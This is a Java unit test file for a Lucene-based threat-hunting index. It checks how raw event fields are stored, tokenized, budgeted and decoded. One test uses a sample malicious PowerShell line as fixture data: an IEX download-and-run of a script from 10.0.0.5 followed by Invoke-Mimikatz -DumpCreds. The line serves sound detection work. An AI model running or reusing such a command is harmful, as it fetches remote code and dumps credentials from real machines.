package org.huntindex.index;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.apache.lucene.index.DirectoryReader;
import org.apache.lucene.index.IndexWriter;
import org.apache.lucene.index.IndexWriterConfig;
import org.apache.lucene.index.Term;
import org.apache.lucene.search.IndexSearcher;
import org.apache.lucene.search.TermQuery;
import org.apache.lucene.store.ByteBuffersDirectory;
import org.apache.lucene.store.Directory;
import org.apache.lucene.util.BytesRef;
import org.huntindex.normalize.Event;
import org.huntindex.schema.CommandLineTokenizer;
import org.huntindex.schema.Field;
import org.huntindex.schema.SchemaAnalyzer;
import org.junit.jupiter.api.Test;

class RawFieldsTest {
  private static final String LONG = "x".repeat(Field.RAW_TERM_BYTES);

  private static Event event() {
    return new Event().raw("TargetUserName", "admin").raw("Note", "a=b=c").raw("Ort", "Zürich ж")
        .raw("Blob", LONG).raw("TargetUserName", "second").raw("Empty", "");
  }

  @Test
  void everyPairIsStoredInOrderAndEachShortPairIsATerm() throws IOException {
    try (Directory dir = new ByteBuffersDirectory()) {
      try (IndexWriter w = new IndexWriter(dir, new IndexWriterConfig(new SchemaAnalyzer()))) {
        w.addDocument(EventDocuments.of(event()));
        w.addDocument(EventDocuments.of(new Event().raw("TargetUserName", "guest")));
      }
      try (DirectoryReader r = DirectoryReader.open(dir)) {
        IndexSearcher s = new IndexSearcher(r);
        assertEquals(1, count(s, "TargetUserName=admin"));
        assertEquals(1, count(s, "TargetUserName=second"));
        assertEquals(1, count(s, "TargetUserName=guest"));
        assertEquals(1, count(s, "Note=a=b=c"));
        assertEquals(1, count(s, "Ort=Zürich ж"));
        assertEquals(1, count(s, "Empty="));
        assertEquals(0, count(s, "Blob=" + LONG), "a pair over the term limit is no term");
        assertEquals(1, count(s, "Blob=" + "x".repeat(CommandLineTokenizer.MAX_TOKEN)), "but its tokens are");
        BytesRef blob = r.storedFields().document(0).getBinaryValue(Field.RAW.fieldName());
        List<Map.Entry<String, String>> pairs = RawFields.decode(blob);
        assertEquals(List.of(Map.entry("TargetUserName", "admin"), Map.entry("Note", "a=b=c"),
            Map.entry("Ort", "Zürich ж"), Map.entry("Blob", LONG), Map.entry("TargetUserName", "second"),
            Map.entry("Empty", "")), pairs);
      }
    }
  }

  @Test
  void aPairTooLongToBeATermIsIndexedByTheTokensOfItsValueUnderItsName() throws IOException {
    String script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); Invoke-Mimikatz "
        + "-DumpCreds # Zürich ".repeat(60);
    try (Directory dir = new ByteBuffersDirectory()) {
      try (IndexWriter w = new IndexWriter(dir, new IndexWriterConfig(new SchemaAnalyzer()))) {
        w.addDocument(EventDocuments.of(new Event().raw("ScriptBlockText", script).raw("Short", "A B")));
        w.addDocument(EventDocuments.of(new Event().raw("Other", script)));
      }
      try (DirectoryReader r = DirectoryReader.open(dir)) {
        IndexSearcher s = new IndexSearcher(r);
        for (String token : List.of("iex", "new-object", "net.webclient", ".downloadstring", "http", "10.0.0.5",
            "a.ps1", "invoke-mimikatz", "-dumpcreds", "#", "zürich")) {
          assertEquals(1, count(s, "ScriptBlockText=" + token), token);
          assertEquals(1, count(s, "Other=" + token), token);
        }
        assertEquals(0, count(s, "ScriptBlockText=Invoke-Mimikatz"), "tokens are lower-cased");
        assertEquals(0, count(s, "ScriptBlockText=" + script));
        assertEquals(1, count(s, "Short=A B"), "a short pair stays whole");
        assertEquals(0, count(s, "Short=a"));
        assertEquals(List.of(Map.entry("ScriptBlockText", script), Map.entry("Short", "A B")),
            RawFields.decode(r.storedFields().document(0).getBinaryValue(Field.RAW.fieldName())));
      }
    }
  }

  @Test
  void anEventsLongValuesAreReadForTokensUpToABudgetAndStoredWhole() throws IOException {
    StringBuilder words = new StringBuilder();
    for (int i = 0; words.length() < RawFields.Terms.MAX_TOKENIZED_BYTES + 50_000; i++) {
      words.append('w').append(i).append(' ');
    }
    String big = words.toString();
    int lastInBudget = big.substring(0, RawFields.Terms.MAX_TOKENIZED_BYTES).split(" ").length - 2;
    try (Directory dir = new ByteBuffersDirectory()) {
      try (IndexWriter w = new IndexWriter(dir, new IndexWriterConfig(new SchemaAnalyzer()))) {
        w.addDocument(EventDocuments.of(new Event().raw("Big", big).raw("After", LONG + " late").raw("Short", "s")));
      }
      try (DirectoryReader r = DirectoryReader.open(dir)) {
        IndexSearcher s = new IndexSearcher(r);
        assertEquals(1, count(s, "Big=w0"));
        assertEquals(1, count(s, "Big=w" + lastInBudget));
        assertEquals(0, count(s, "Big=w" + (lastInBudget + 2)), "past the budget");
        assertEquals(0, count(s, "After=late"), "the budget is the event's");
        assertEquals(1, count(s, "Short=s"), "short pairs are terms whatever the budget");
        assertEquals(List.of(Map.entry("Big", big), Map.entry("After", LONG + " late"), Map.entry("Short", "s")),
            RawFields.decode(r.storedFields().document(0).getBinaryValue(Field.RAW.fieldName())));
      }
    }
  }

  @Test
  void anEventWithoutRawFieldsHasNoBlob() {
    assertNull(RawFields.encode(new Event()));
  }

  @Test
  void aCutBlobYieldsTheWholePairsBeforeTheCut() {
    BytesRef blob = RawFields.encode(event());
    int firstTwo = 1 + "TargetUserName=admin".length() + 1 + "Note=a=b=c".length();
    assertEquals(List.of(Map.entry("TargetUserName", "admin"), Map.entry("Note", "a=b=c")),
        RawFields.decode(new BytesRef(blob.bytes, blob.offset, firstTwo + 3)));
    byte[] endless = {(byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0x7F, 'a'};
    assertEquals(List.of(), RawFields.decode(new BytesRef(endless)));
  }

  private static int count(IndexSearcher s, String pair) throws IOException {
    return s.count(new TermQuery(new Term(Field.RAW.fieldName(), pair)));
  }
}
